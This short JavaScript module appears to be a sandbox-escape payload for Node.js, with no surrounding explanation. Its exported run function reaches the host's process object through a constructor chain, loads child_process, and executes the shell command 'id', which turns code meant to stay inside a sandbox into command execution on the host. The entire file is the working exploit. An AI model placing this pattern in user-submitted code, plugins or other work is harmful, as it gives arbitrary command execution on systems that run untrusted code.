export function run() {
  const process = this.constructor.constructor("return process")();
  return process.mainModule.require("child_process").execSync("id").toString();
}
